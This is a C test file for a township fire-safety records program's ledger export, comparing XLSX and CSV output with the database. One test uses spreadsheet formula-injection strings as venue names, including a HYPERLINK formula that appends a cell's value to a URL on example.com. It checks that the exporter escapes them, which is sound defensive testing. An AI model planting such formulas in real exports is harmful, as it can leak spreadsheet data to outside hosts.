/* test-ledger.c — the ledgers as spreadsheets and CSV, read back with
 * xlsx2csv and compared with what the database holds
 *
 * Copyright 2026 The Firegrid authors
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#include "config.h"

#include <math.h>
#include <string.h>

#include "fg-store-private.h"
#include "fg-test-util.h"

/* One demo township for every test: made once, only read. */
static FgTestDir demo_dir;
static FgStore *demo_store;
static FgActor *demo_admin;
static GDate *demo_today;

static void
demo_set_up (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(FgActor) installer = fg_actor_new_local ();
  g_autoptr(GDateTime) now = g_date_time_new_now_local ();
  g_autoptr(GDateTime) then = g_date_time_new_local (2026, 11, 30, 10, 30, 0);

  fg_test_dir_init (&demo_dir);
  demo_store = fg_office_open (demo_dir.db_path, &error);
  g_assert_no_error (error);
  fg_store_set_clock_offset (demo_store, g_date_time_difference (then, now));
  fg_demo_populate (demo_store, installer, FG_DEMO_DEFAULT_VENUES, NULL, NULL, &error);
  g_assert_no_error (error);
  demo_admin = fg_account_login (demo_store, "admin", "demo-admin", &error);
  g_assert_no_error (error);
  demo_today = g_date_new_dmy (30, G_DATE_NOVEMBER, 2026);
}

static void
demo_tear_down (void)
{
  g_clear_pointer (&demo_admin, fg_actor_unref);
  g_clear_object (&demo_store);
  g_clear_pointer (&demo_today, g_date_free);
  fg_test_dir_clear (&demo_dir);
}

/* Reading back */

/* Splits CSV text (RFC 4180: quotes, doubled quotes, CRLF or LF) into
 * rows of fields. */
static GPtrArray *
parse_csv (const char *text)
{
  GPtrArray *rows = g_ptr_array_new_with_free_func ((GDestroyNotify) g_strfreev);
  g_autoptr(GPtrArray) fields = g_ptr_array_new_with_free_func (g_free);
  g_autoptr(GString) field = g_string_new (NULL);
  gboolean quoted = FALSE;
  const char *p = text;

  while (*p != '\0')
    {
      if (quoted)
        {
          if (*p == '"' && p[1] == '"')
            {
              g_string_append_c (field, '"');
              p++;
            }
          else if (*p == '"')
            quoted = FALSE;
          else
            g_string_append_c (field, *p);
        }
      else if (*p == '"')
        quoted = TRUE;
      else if (*p == ',')
        {
          g_ptr_array_add (fields, g_strdup (field->str));
          g_string_truncate (field, 0);
        }
      else if (*p == '\r' || *p == '\n')
        {
          if (*p == '\r' && p[1] == '\n')
            p++;
          g_ptr_array_add (fields, g_strdup (field->str));
          g_string_truncate (field, 0);
          g_ptr_array_add (fields, NULL);
          g_ptr_array_add (rows, g_ptr_array_steal (fields, NULL));
        }
      else
        g_string_append_c (field, *p);
      p++;
    }
  g_assert_false (quoted);
  g_assert_cmpuint (fields->len, ==, 0);
  return rows;
}

/* The rows of an exported file: a workbook through xlsx2csv (with dates
 * written as @date_format, when given), a CSV file as it is, less its
 * byte order mark. */
static GPtrArray *
read_back (const char *path,
           const char *date_format)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *text = NULL;
  gsize length;

  if (g_str_has_suffix (path, ".csv"))
    {
      g_assert_true (g_file_get_contents (path, &text, &length, &error));
      g_assert_no_error (error);
      /* Excel reads a CSV file as UTF-8 only with the mark */
      g_assert_true (g_str_has_prefix (text, "\xEF\xBB\xBF"));
      g_assert_true (g_utf8_validate (text, length, NULL));
      return parse_csv (text + 3);
    }
  else
    {
      g_autofree char *err = NULL;
      int status;
      const char *argv_plain[] = { "xlsx2csv", path, NULL };
      const char *argv_dated[] = { "xlsx2csv", "-f", date_format, path, NULL };

      g_spawn_sync (NULL, (char **) (date_format != NULL ? argv_dated : argv_plain), NULL,
                    G_SPAWN_SEARCH_PATH, NULL, NULL, &text, &err, &status, &error);
      g_assert_no_error (error);
      g_assert_true (g_spawn_check_wait_status (status, &error));
      g_assert_no_error (error);
      g_assert_cmpstr (err, ==, "");
      return parse_csv (text);
    }
}

/* The data rows of a file read back: a workbook has its title and period
 * above the header. */
static GPtrArray *
export_and_read (FgLedgerKind  kind,
                 const char   *extension,
                 const char   *region,
                 const char   *from,
                 const char   *to,
                 GStrv        *header)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *name = g_strconcat (fg_ledger_kind_to_string (kind), extension, NULL);
  g_autofree char *path = g_build_filename (demo_dir.dir, name, NULL);
  FgLedgerQuery query = { kind, region, from, to, demo_today };
  FgLedgerFormat format;
  GPtrArray *rows;
  guint n_rows = 0;
  guint skip;

  g_assert_true (fg_ledger_format_for_path (path, &format));
  g_assert_true (fg_ledger_export (demo_store, demo_admin, &query, format, path, &n_rows, &error));
  g_assert_no_error (error);

  rows = read_back (path, NULL);
  skip = format == FG_LEDGER_FORMAT_XLSX ? 2 : 0;
  /* the summary by village has a row of totals below its rows */
  g_assert_cmpuint (rows->len, ==, skip + 1 + n_rows + (kind == FG_LEDGER_VILLAGES ? 1 : 0));
  if (skip > 0)
    {
      GStrv title = g_ptr_array_index (rows, 0);

      /* the office and the ledger's name */
      g_assert_nonnull (strstr (title[0], "冢头镇"));
      g_assert_nonnull (strstr (title[0], fg_ledger_kind_get_title (kind)));
    }
  if (header != NULL)
    *header = g_strdupv (g_ptr_array_index (rows, skip));
  g_ptr_array_remove_range (rows, 0, skip + 1);
  g_unlink (path);
  return rows;
}

/* The database's own answer: each row of @sql joined by "|", in its order. */
static GPtrArray *
query_rows (const char *sql)
{
  GPtrArray *rows = g_ptr_array_new_with_free_func (g_free);
  sqlite3 *db = NULL;
  sqlite3_stmt *stmt = NULL;

  g_assert_cmpint (sqlite3_open_v2 (demo_dir.db_path, &db, SQLITE_OPEN_READONLY, NULL), ==, SQLITE_OK);
  g_assert_cmpint (sqlite3_prepare_v2 (db, sql, -1, &stmt, NULL), ==, SQLITE_OK);
  while (sqlite3_step (stmt) == SQLITE_ROW)
    {
      g_autoptr(GString) row = g_string_new (NULL);

      for (int i = 0; i < sqlite3_column_count (stmt); i++)
        {
          const char *text = (const char *) sqlite3_column_text (stmt, i);

          if (i > 0)
            g_string_append_c (row, '|');
          g_string_append (row, text != NULL ? text : "");
        }
      g_ptr_array_add (rows, g_string_free (g_steal_pointer (&row), FALSE));
    }
  sqlite3_finalize (stmt);
  sqlite3_close (db);
  return rows;
}

/* The fields @columns (indices, -1 ends) of each row, joined by "|". */
static GPtrArray *
pick (GPtrArray *rows,
      const int *columns)
{
  GPtrArray *picked = g_ptr_array_new_with_free_func (g_free);

  for (guint i = 0; i < rows->len; i++)
    {
      GStrv row = g_ptr_array_index (rows, i);
      g_autoptr(GString) text = g_string_new (NULL);

      for (guint j = 0; columns[j] >= 0; j++)
        {
          g_assert_cmpuint (columns[j], <, g_strv_length (row));
          if (j > 0)
            g_string_append_c (text, '|');
          g_string_append (text, row[columns[j]]);
        }
      g_ptr_array_add (picked, g_string_free (g_steal_pointer (&text), FALSE));
    }
  return picked;
}

static int
compare_strings (gconstpointer a,
                 gconstpointer b)
{
  return strcmp (*(char * const *) a, *(char * const *) b);
}

static void
assert_same_rows (GPtrArray *actual,
                  GPtrArray *expected,
                  gboolean   sort)
{
  if (sort)
    {
      g_ptr_array_sort (actual, compare_strings);
      g_ptr_array_sort (expected, compare_strings);
    }
  g_assert_cmpuint (actual->len, ==, expected->len);
  for (guint i = 0; i < actual->len; i++)
    g_assert_cmpstr (g_ptr_array_index (actual, i), ==, g_ptr_array_index (expected, i));
}

static const char * const extensions[] = { ".xlsx", ".csv" };

/* Tests */

static void
test_ledger_venues (void)
{
  for (guint e = 0; e < G_N_ELEMENTS (extensions); e++)
    {
      g_auto(GStrv) header = NULL;
      g_autoptr(GPtrArray) rows = export_and_read (FG_LEDGER_VENUES, extensions[e], NULL, NULL, NULL, &header);
      static const int columns[] = { 1, 2, 7, 8, 9, 10, 11, 13, -1 };
      g_autoptr(GPtrArray) actual = pick (rows, columns);
      g_autoptr(GPtrArray) expected =
        query_rows ("SELECT name, address, phone, credit_code,"
                    "  CASE WHEN floor_area > 0 THEN printf ('%g', floor_area) ELSE '' END,"
                    "  CASE WHEN floors > 0 THEN floors ELSE '' END, sleeping,"
                    "  CASE smoke_alarm WHEN 1 THEN 'Yes' ELSE 'No' END"
                    " FROM venue WHERE deleted = 0");

      g_assert_cmpstr (header[1], ==, "Venue");
      g_assert_cmpstr (header[13], ==, "Smoke alarm");
      g_assert_cmpuint (expected->len, ==, FG_DEMO_DEFAULT_VENUES);
      assert_same_rows (actual, expected, TRUE);

      /* numbered from 1 down the page */
      for (guint i = 0; i < rows->len; i++)
        {
          g_autofree char *number = g_strdup_printf ("%u", i + 1);
          g_assert_cmpstr (((GStrv) g_ptr_array_index (rows, i))[0], ==, number);
        }
    }
}

static void
test_ledger_venues_region (void)
{
  g_autoptr(GPtrArray) village = query_rows ("SELECT code, name FROM region WHERE level = 3 ORDER BY code LIMIT 1");
  g_auto(GStrv) code_name = g_strsplit (g_ptr_array_index (village, 0), "|", 2);
  g_autofree char *sql = g_strdup_printf ("SELECT v.name, v.address FROM venue v JOIN region r ON r.id = v.village_id"
                                          " WHERE v.deleted = 0 AND r.code = '%s'", code_name[0]);
  g_autoptr(GPtrArray) expected = query_rows (sql);
  g_autoptr(GPtrArray) rows = export_and_read (FG_LEDGER_VENUES, ".csv", code_name[0], NULL, NULL, NULL);
  static const int columns[] = { 1, 2, -1 };
  g_autoptr(GPtrArray) actual = pick (rows, columns);

  g_assert_cmpuint (expected->len, >, 0);
  g_assert_cmpuint (expected->len, <, FG_DEMO_DEFAULT_VENUES);
  assert_same_rows (actual, expected, TRUE);
  for (guint i = 0; i < rows->len; i++)
    g_assert_cmpstr (((GStrv) g_ptr_array_index (rows, i))[3], ==, code_name[1]);
}

static void
test_ledger_inspections (void)
{
  for (guint e = 0; e < G_N_ELEMENTS (extensions); e++)
    {
      g_autoptr(GPtrArray) rows = export_and_read (FG_LEDGER_INSPECTIONS, extensions[e], NULL, NULL, NULL, NULL);
      static const int columns[] = { 1, 2, 3, 7, 8, 9, -1 };
      g_autoptr(GPtrArray) actual = pick (rows, columns);
      g_autoptr(GPtrArray) expected =
        query_rows ("SELECT substr (i.finished_at, 1, 10), v.name, r.name, i.inspector_name,"
                    "  (SELECT count (*) FROM hazard h WHERE h.inspection_id = i.id AND h.deleted = 0), i.note"
                    " FROM inspection i JOIN venue v ON v.id = i.venue_id JOIN region r ON r.id = i.village_id"
                    " WHERE i.deleted = 0 AND i.finished_at IS NOT NULL ORDER BY i.finished_at, i.seq");

      g_assert_cmpuint (expected->len, >, 10);
      assert_same_rows (actual, expected, FALSE);
    }
}

#define HAZARD_SQL \
  "SELECT substr (h.found_at, 1, 10), v.name," \
  "  coalesce ((SELECT n.number FROM notice_hazard nh JOIN notice n ON n.id = nh.notice_id" \
  "    WHERE nh.hazard_id = h.id AND n.voided_at IS NULL AND n.kind IN ('correct-now', 'correct-by-deadline')" \
  "    ORDER BY n.issued_at DESC LIMIT 1), '')," \
  "  coalesce (h.current_deadline, '')," \
  "  CASE WHEN h.state = 'closed' THEN (SELECT substr (max (at), 1, 10) FROM hazard_event e" \
  "    WHERE e.hazard_id = h.id AND e.kind = 'closed') ELSE '' END," \
  "  CASE WHEN h.state = 'closed' THEN (SELECT CAST (julianday (substr (max (at), 1, 10))" \
  "    - julianday (substr (h.found_at, 1, 10)) AS INTEGER) FROM hazard_event e" \
  "    WHERE e.hazard_id = h.id AND e.kind = 'closed') ELSE '' END" \
  " FROM hazard h JOIN venue v ON v.id = h.venue_id WHERE h.deleted = 0"

static void
test_ledger_hazards (void)
{
  for (guint e = 0; e < G_N_ELEMENTS (extensions); e++)
    {
      g_auto(GStrv) header = NULL;
      g_autoptr(GPtrArray) rows = export_and_read (FG_LEDGER_HAZARDS, extensions[e], NULL, NULL, NULL, &header);
      static const int columns[] = { 1, 2, 6, 7, 11, 12, -1 };
      g_autoptr(GPtrArray) actual = pick (rows, columns);
      g_autoptr(GPtrArray) expected = query_rows (HAZARD_SQL);
      guint n_closed = 0, n_numbered = 0;

      g_assert_cmpstr (header[6], ==, "Notice number");
      g_assert_cmpstr (header[12], ==, "Days taken");
      g_assert_cmpuint (expected->len, >, 10);
      assert_same_rows (actual, expected, TRUE);

      for (guint i = 0; i < rows->len; i++)
        {
          GStrv row = g_ptr_array_index (rows, i);

          n_closed += *row[11] != '\0';
          n_numbered += *row[6] != '\0';
        }
      /* the comparison compared something */
      g_assert_cmpuint (n_closed, >, 0);
      g_assert_cmpuint (n_numbered, >, 0);
    }
}

static void
test_ledger_hazards_period (void)
{
  g_autoptr(GPtrArray) rows = export_and_read (FG_LEDGER_HAZARDS, ".xlsx", NULL, "2026-11-10", "2026-11-20", NULL);
  g_autoptr(GPtrArray) expected =
    query_rows ("SELECT substr (found_at, 1, 10) FROM hazard"
                " WHERE deleted = 0 AND found_at >= '2026-11-10' AND found_at < '2026-11-21'");
  static const int columns[] = { 1, -1 };
  g_autoptr(GPtrArray) actual = pick (rows, columns);
  g_autoptr(GPtrArray) all = query_rows ("SELECT id FROM hazard WHERE deleted = 0");

  g_assert_cmpuint (expected->len, >, 0);
  g_assert_cmpuint (expected->len, <, all->len);
  assert_same_rows (actual, expected, TRUE);
}

static void
test_ledger_documents (void)
{
  for (guint e = 0; e < G_N_ELEMENTS (extensions); e++)
    {
      g_autoptr(GPtrArray) rows = export_and_read (FG_LEDGER_DOCUMENTS, extensions[e], NULL, NULL, NULL, NULL);
      static const int columns[] = { 1, 3, 5, 7, 9, -1 };
      g_autoptr(GPtrArray) actual = pick (rows, columns);
      g_autoptr(GPtrArray) expected =
        query_rows ("SELECT n.number, v.name, n.issued_on, coalesce (n.deadline, ''),"
                    "  coalesce (substr (n.served_at, 1, 10), '')"
                    " FROM notice n JOIN venue v ON v.id = n.venue_id");

      g_assert_cmpuint (expected->len, >, 10);
      assert_same_rows (actual, expected, TRUE);
    }
}

/* A share read back: 0.706 from a workbook, 70.6% from CSV. */
static void
assert_share (const char *text,
              gint64      n,
              gint64      d)
{
  double share;

  if (d == 0)
    {
      g_assert_cmpstr (text, ==, "");
      return;
    }
  share = g_ascii_strtod (text, NULL);
  if (g_str_has_suffix (text, "%"))
    share /= 100;
  g_assert_cmpfloat_with_epsilon (share, (double) n / d, 0.0006);
}

static void
test_ledger_villages (void)
{
  for (guint e = 0; e < G_N_ELEMENTS (extensions); e++)
    {
      g_autoptr(GPtrArray) rows = export_and_read (FG_LEDGER_VILLAGES, extensions[e], NULL,
                                                   "2026-11-01", "2026-11-30", NULL);
      g_autoptr(GPtrArray) expected =
        query_rows ("SELECT r.name,"
                    "  (SELECT count (*) FROM venue v WHERE v.village_id = r.id AND v.deleted = 0 AND v.status = 'active'),"
                    "  (SELECT count (*) FROM inspection i WHERE i.village_id = r.id AND i.deleted = 0"
                    "     AND i.finished_at >= '2026-11-01' AND i.finished_at < '2026-12-01'),"
                    "  (SELECT count (*) FROM hazard h WHERE h.village_id = r.id AND h.deleted = 0"
                    "     AND h.found_at >= '2026-11-01' AND h.found_at < '2026-12-01'),"
                    "  (SELECT count (*) FROM hazard h WHERE h.village_id = r.id AND h.deleted = 0"
                    "     AND h.found_at >= '2026-11-01' AND h.found_at < '2026-12-01' AND h.state = 'closed'),"
                    "  (SELECT count (*) FROM venue v WHERE v.village_id = r.id AND v.deleted = 0"
                    "     AND v.status = 'active' AND v.smoke_alarm = 1)"
                    " FROM region r WHERE r.level = 3 AND r.deleted = 0 ORDER BY r.code");
      static const int columns[] = { 1, 2, 5, 6, 7, 10, -1 };
      g_autoptr(GPtrArray) actual = NULL;
      g_auto(GStrv) total = NULL;
      gint64 sums[12] = { 0, };
      guint n_found = 0;

      /* the last row is the totals: the sums, and the rates of the sums */
      total = g_strdupv (g_ptr_array_index (rows, rows->len - 1));
      g_ptr_array_remove_index (rows, rows->len - 1);
      actual = pick (rows, columns);
      g_assert_cmpstr (total[0], ==, "");
      g_assert_cmpstr (total[1], ==, "Total");
      for (guint i = 0; i < rows->len; i++)
        {
          GStrv row = g_ptr_array_index (rows, i);

          for (guint c = 2; c < 12; c++)
            sums[c] += g_ascii_strtoll (row[c], NULL, 10);
        }
      for (guint c = 2; c < 12; c++)
        {
          if (c == 4 || c == 8 || c == 11)
            continue;
          g_assert_cmpint (g_ascii_strtoll (total[c], NULL, 10), ==, sums[c]);
        }
      assert_share (total[4], sums[3], sums[2]);
      assert_share (total[8], sums[7], sums[6]);
      assert_share (total[11], sums[10], sums[2]);
      /* not the average of the villages' rates, which differs here */
      {
        double mean = 0;

        for (guint i = 0; i < rows->len; i++)
          {
            GStrv row = g_ptr_array_index (rows, i);
            double share = g_ascii_strtod (row[4], NULL);

            mean += g_str_has_suffix (row[4], "%") ? share / 100 : share;
          }
        mean /= rows->len;
        g_assert_cmpfloat (fabs (mean - (double) sums[3] / sums[2]), >, 0.001);
      }

      g_assert_cmpuint (expected->len, >, 3);
      assert_same_rows (actual, expected, FALSE);

      for (guint i = 0; i < rows->len; i++)
        {
          GStrv row = g_ptr_array_index (rows, i);
          gint64 venues = g_ascii_strtoll (row[2], NULL, 10);

          n_found += g_ascii_strtoll (row[6], NULL, 10);
          assert_share (row[4], g_ascii_strtoll (row[3], NULL, 10), venues);
          assert_share (row[8], g_ascii_strtoll (row[7], NULL, 10), g_ascii_strtoll (row[6], NULL, 10));
          assert_share (row[11], g_ascii_strtoll (row[10], NULL, 10), venues);
        }
      g_assert_cmpuint (n_found, >, 0);
    }
}

static void
test_ledger_townships (void)
{
  for (guint e = 0; e < G_N_ELEMENTS (extensions); e++)
    {
      g_autoptr(GPtrArray) rows = export_and_read (FG_LEDGER_TOWNSHIPS, extensions[e], NULL, NULL, NULL, NULL);
      g_autoptr(GPtrArray) expected =
        query_rows ("SELECT 1, r.name,"
                    "  (SELECT count (*) FROM venue v WHERE v.township_id = r.id AND v.deleted = 0 AND v.status = 'active'),"
                    "  (SELECT count (*) FROM inspection i WHERE i.township_id = r.id AND i.deleted = 0"
                    "     AND i.finished_at >= '2026-01-01' AND i.finished_at < '2026-12-01'),"
                    "  (SELECT count (*) FROM hazard h WHERE h.township_id = r.id AND h.deleted = 0"
                    "     AND h.found_at >= '2026-01-01' AND h.found_at < '2026-12-01')"
                    " FROM region r WHERE r.level = 2 AND r.deleted = 0");
      static const int columns[] = { 0, 1, 2, 5, 6, -1 };
      g_autoptr(GPtrArray) actual = pick (rows, columns);

      assert_same_rows (actual, expected, FALSE);
    }
}

/* A workbook as offices print it: dates are dates (xlsx2csv writes them
 * in the format asked for), the page is A4 across, one page wide, the
 * header row frozen and repeated, and pages are numbered. */
static void
test_ledger_workbook_layout (void)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *path = g_build_filename (demo_dir.dir, "layout.xlsx", NULL);
  g_autofree char *sheet = NULL;
  g_autofree char *workbook = NULL;
  g_autoptr(GPtrArray) rows = NULL;
  FgLedgerQuery query = { FG_LEDGER_HAZARDS, NULL, NULL, NULL, demo_today };
  const char *python[] = { "python3", "-c",
                           "import sys, zipfile\n"
                           "print (zipfile.ZipFile (sys.argv[1]).read (sys.argv[2]).decode ())",
                           path, NULL, NULL };
  int status;

  g_assert_true (fg_ledger_export (demo_store, demo_admin, &query, FG_LEDGER_FORMAT_XLSX, path, NULL, &error));
  g_assert_no_error (error);

  rows = read_back (path, "%Y/%m/%d");
  for (guint i = 3; i < rows->len; i++)
    {
      GStrv row = g_ptr_array_index (rows, i);

      /* found: a date cell; the number and days taken: numbers */
      g_assert_true (g_regex_match_simple ("^2026/[01][0-9]/[0-3][0-9]$", row[1], 0, 0));
      g_assert_true (g_regex_match_simple ("^[0-9]+$", row[0], 0, 0));
    }

  python[4] = "xl/worksheets/sheet1.xml";
  g_spawn_sync (NULL, (char **) python, NULL, G_SPAWN_SEARCH_PATH, NULL, NULL, &sheet, NULL, &status, &error);
  g_assert_no_error (error);
  g_assert_true (g_spawn_check_wait_status (status, &error));
  g_assert_nonnull (strstr (sheet, "orientation=\"landscape\""));
  g_assert_nonnull (strstr (sheet, "paperSize=\"9\""));
  g_assert_nonnull (strstr (sheet, "fitToHeight=\"0\""));
  g_assert_nonnull (strstr (sheet, "state=\"frozen\""));
  g_assert_nonnull (strstr (sheet, "&amp;P"));
  g_assert_nonnull (strstr (sheet, "<col "));

  python[4] = "xl/workbook.xml";
  g_spawn_sync (NULL, (char **) python, NULL, G_SPAWN_SEARCH_PATH, NULL, NULL, &workbook, NULL, &status, &error);
  g_assert_no_error (error);
  /* the header row prints on every page */
  g_assert_nonnull (strstr (workbook, "_xlnm.Print_Titles"));
  g_unlink (path);
}

static guint
count_files (void)
{
  g_autoptr(GDir) dir = g_dir_open (demo_dir.dir, 0, NULL);
  guint n = 0;

  while (g_dir_read_name (dir) != NULL)
    n++;
  return n;
}

static void
test_ledger_refusals (void)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *path = g_build_filename (demo_dir.dir, "refused.xlsx", NULL);
  g_autofree char *missing = g_build_filename (demo_dir.dir, "no-such-folder", "x.csv", NULL);
  FgLedgerQuery backwards = { FG_LEDGER_HAZARDS, NULL, "2026-11-20", "2026-11-10", demo_today };
  FgLedgerQuery no_day = { FG_LEDGER_HAZARDS, NULL, "2026-02-30", NULL, demo_today };
  FgLedgerQuery unknown = { FG_LEDGER_VENUES, "410425999999", NULL, NULL, demo_today };
  FgLedgerQuery fine = { FG_LEDGER_VENUES, NULL, NULL, NULL, demo_today };
  guint n_files = count_files ();

  g_assert_false (fg_ledger_export (demo_store, demo_admin, &backwards, FG_LEDGER_FORMAT_XLSX, path, NULL, &error));
  g_assert_error (error, FG_LEDGER_ERROR, FG_LEDGER_ERROR_INVALID_PERIOD);
  g_assert_nonnull (strstr (error->message, "2026-11-20"));
  g_clear_error (&error);

  g_assert_false (fg_ledger_export (demo_store, demo_admin, &no_day, FG_LEDGER_FORMAT_XLSX, path, NULL, &error));
  g_assert_error (error, FG_LEDGER_ERROR, FG_LEDGER_ERROR_INVALID_DATE);
  g_clear_error (&error);

  g_assert_false (fg_ledger_export (demo_store, demo_admin, &unknown, FG_LEDGER_FORMAT_XLSX, path, NULL, &error));
  g_assert_error (error, FG_LEDGER_ERROR, FG_LEDGER_ERROR_UNKNOWN_REGION);
  g_assert_nonnull (strstr (error->message, "410425999999"));
  g_clear_error (&error);

  g_assert_false (fg_ledger_export (demo_store, demo_admin, &fine, FG_LEDGER_FORMAT_CSV, missing, NULL, &error));
  g_assert_error (error, FG_LEDGER_ERROR, FG_LEDGER_ERROR_WRITE);
  g_clear_error (&error);

  /* nothing was made */
  g_assert_false (g_file_test (path, G_FILE_TEST_EXISTS));
  g_assert_cmpuint (count_files (), ==, n_files);
}

/* A file that cannot be put in place leaves no part of the new one
 * behind; an old file of that name is replaced only by a complete one. */
static void
test_ledger_atomic (void)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *blocked = g_build_filename (demo_dir.dir, "blocked.csv", NULL);
  g_autofree char *inside = g_build_filename (blocked, "keep", NULL);
  g_autofree char *old = g_build_filename (demo_dir.dir, "old.csv", NULL);
  g_autofree char *contents = NULL;
  FgLedgerQuery query = { FG_LEDGER_VENUES, NULL, NULL, NULL, demo_today };
  guint n_files;

  /* a folder where the file should go: the rename fails at the end */
  g_assert_cmpint (g_mkdir (blocked, 0755), ==, 0);
  g_assert_true (g_file_set_contents (inside, "x", -1, NULL));
  n_files = count_files ();
  g_assert_false (fg_ledger_export (demo_store, demo_admin, &query, FG_LEDGER_FORMAT_CSV, blocked, NULL, &error));
  g_assert_error (error, FG_LEDGER_ERROR, FG_LEDGER_ERROR_WRITE);
  g_clear_error (&error);
  g_assert_cmpuint (count_files (), ==, n_files);
  g_unlink (inside);
  g_rmdir (blocked);

  /* an old file is replaced whole */
  g_assert_true (g_file_set_contents (old, "old", -1, NULL));
  g_assert_true (fg_ledger_export (demo_store, demo_admin, &query, FG_LEDGER_FORMAT_CSV, old, NULL, &error));
  g_assert_no_error (error);
  g_assert_true (g_file_get_contents (old, &contents, NULL, NULL));
  g_assert_true (g_str_has_prefix (contents, "\xEF\xBB\xBF"));
  g_unlink (old);
}

/* Text a spreadsheet would take for a formula is written to CSV with an
 * apostrophe before it; numbers, negative ones too, stay numbers. The
 * workbook holds such text as text, as it is. */
static void
test_ledger_csv_formulas (void)
{
  g_auto(FgTestDir) dir = { NULL, };
  g_autoptr(GError) error = NULL;
  g_autoptr(FgStore) store = NULL;
  g_autoptr(FgRegion) village = NULL;
  g_autoptr(FgRegion) grid = NULL;
  g_autoptr(GPtrArray) rows = NULL;
  g_autofree char *csv = NULL;
  g_autofree char *xlsx = NULL;
  FgActor *actor = fg_test_installer ();
  FgLedgerQuery query = { FG_LEDGER_VENUES, NULL, NULL, NULL, demo_today };
  static const char * const names[] = {
    "=HYPERLINK(\"http://example.com/x?\"&A1,\"点击\")", "-1+2", "+86 商店", "@SUM(1)", "普通小店",
  };
  guint found = 0;

  fg_test_dir_init (&dir);
  csv = g_build_filename (dir.dir, "venues.csv", NULL);
  xlsx = g_build_filename (dir.dir, "venues.xlsx", NULL);
  store = fg_test_township_new (&dir, &village, &grid);
  for (guint i = 0; i < G_N_ELEMENTS (names); i++)
    {
      g_autoptr(FgVenue) venue = fg_test_venue_new (fg_region_get_id (village), names[i], "李庄村东街1号",
                                                    "shop", "王老板");

      fg_venue_set_floor_area (venue, 120.5);
      fg_venue_save (store, actor, venue, &error);
      g_assert_no_error (error);
    }

  g_assert_true (fg_ledger_export (store, actor, &query, FG_LEDGER_FORMAT_CSV, csv, NULL, &error));
  g_assert_no_error (error);
  rows = read_back (csv, NULL);
  for (guint i = 1; i < rows->len; i++)
    {
      GStrv row = g_ptr_array_index (rows, i);

      /* the number and the area are numbers, as they were */
      g_assert_true (g_regex_match_simple ("^[0-9]+$", row[0], 0, 0));
      g_assert_cmpstr (row[9], ==, "120.5");
      if (g_str_equal (row[1], "普通小店"))
        continue;
      g_assert_true (row[1][0] == '\'');
      for (guint j = 0; j < G_N_ELEMENTS (names); j++)
        found += g_str_equal (row[1] + 1, names[j]);
    }
  g_assert_cmpuint (found, ==, G_N_ELEMENTS (names) - 1);
  g_clear_pointer (&rows, g_ptr_array_unref);

  g_assert_true (fg_ledger_export (store, actor, &query, FG_LEDGER_FORMAT_XLSX, xlsx, NULL, &error));
  g_assert_no_error (error);
  rows = read_back (xlsx, NULL);
  found = 0;
  for (guint i = 3; i < rows->len; i++)
    for (guint j = 0; j < G_N_ELEMENTS (names); j++)
      found += g_str_equal (((GStrv) g_ptr_array_index (rows, i))[1], names[j]);
  g_assert_cmpuint (found, ==, G_N_ELEMENTS (names));
}

/* What libxlsxwriter says is for the debug log: the person exporting
 * reads our words, and what to do. */
static void
test_ledger_workbook_errors (void)
{
  g_auto(FgTestDir) dir = { NULL, };
  g_autoptr(GError) error = NULL;
  g_autoptr(FgStore) store = NULL;
  g_autoptr(FgRegion) village = NULL;
  g_autoptr(FgRegion) grid = NULL;
  g_autoptr(FgVenue) venue = NULL;
  g_autofree char *xlsx = NULL;
  g_autofree char *csv = NULL;
  g_autofree char *folder = NULL;
  g_autoptr(GString) long_name = g_string_new (NULL);
  FgActor *actor = fg_test_installer ();
  FgLedgerQuery query = { FG_LEDGER_VENUES, NULL, NULL, NULL, demo_today };

  fg_test_dir_init (&dir);
  xlsx = g_build_filename (dir.dir, "venues.xlsx", NULL);
  csv = g_build_filename (dir.dir, "venues.csv", NULL);
  folder = g_build_filename (dir.dir, "a-folder.xlsx", NULL);
  store = fg_test_township_new (&dir, &village, &grid);
  venue = fg_test_venue_new (fg_region_get_id (village), "李庄超市", "李庄村东街1号", "shop", "王老板");
  fg_venue_save (store, actor, venue, &error);
  g_assert_no_error (error);

  /* a folder where the file should go */
  g_assert_cmpint (g_mkdir (folder, 0755), ==, 0);
  g_assert_false (fg_ledger_export (store, actor, &query, FG_LEDGER_FORMAT_XLSX, folder, NULL, &error));
  g_assert_error (error, FG_LEDGER_ERROR, FG_LEDGER_ERROR_WRITE);
  g_assert_nonnull (strstr (error->message, "is a folder"));
  g_clear_error (&error);
  g_assert_true (g_file_test (folder, G_FILE_TEST_IS_DIR));

  /* an address longer than a cell of a workbook holds, as an old
   * database could have it (the venue form allows no such thing) */
  for (guint i = 0; i < 40000; i++)
    g_string_append_c (long_name, 'x');
  {
    g_autoptr(sqlite3_stmt) stmt = fg_store_prepare (store, "UPDATE venue SET address = ?1", &error);

    g_assert_no_error (error);
    sqlite3_bind_text (stmt, 1, long_name->str, -1, SQLITE_STATIC);
    g_assert_true (fg_store_step_done (store, stmt, &error));
    g_assert_no_error (error);
  }

  g_assert_false (fg_ledger_export (store, actor, &query, FG_LEDGER_FORMAT_XLSX, xlsx, NULL, &error));
  g_assert_error (error, FG_LEDGER_ERROR, FG_LEDGER_ERROR_WRITE);
  /* libxlsxwriter's words: "String exceeds Excel's limit of 32,767 characters." */
  g_assert_null (strstr (error->message, "exceeds"));
  g_assert_null (strstr (error->message, "Excel"));
  g_assert_nonnull (strstr (error->message, "32,767"));
  g_assert_nonnull (strstr (error->message, "CSV"));
  g_clear_error (&error);
  g_assert_false (g_file_test (xlsx, G_FILE_TEST_EXISTS));

  /* as it says: the CSV holds it */
  g_assert_true (fg_ledger_export (store, actor, &query, FG_LEDGER_FORMAT_CSV, csv, NULL, &error));
  g_assert_no_error (error);
}

static void
export_done (GObject      *source,
             GAsyncResult *result,
             gpointer      user_data)
{
  GAsyncResult **out = user_data;

  *out = g_object_ref (result);
}

static void
test_ledger_async (void)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *path = g_build_filename (demo_dir.dir, "async.xlsx", NULL);
  g_autoptr(GAsyncResult) result = NULL;
  g_autoptr(GPtrArray) rows = NULL;
  FgLedgerQuery query = { FG_LEDGER_DOCUMENTS, NULL, NULL, NULL, demo_today };
  guint n_rows = 0;

  fg_ledger_export_async (demo_store, demo_admin, &query, FG_LEDGER_FORMAT_XLSX, path, NULL,
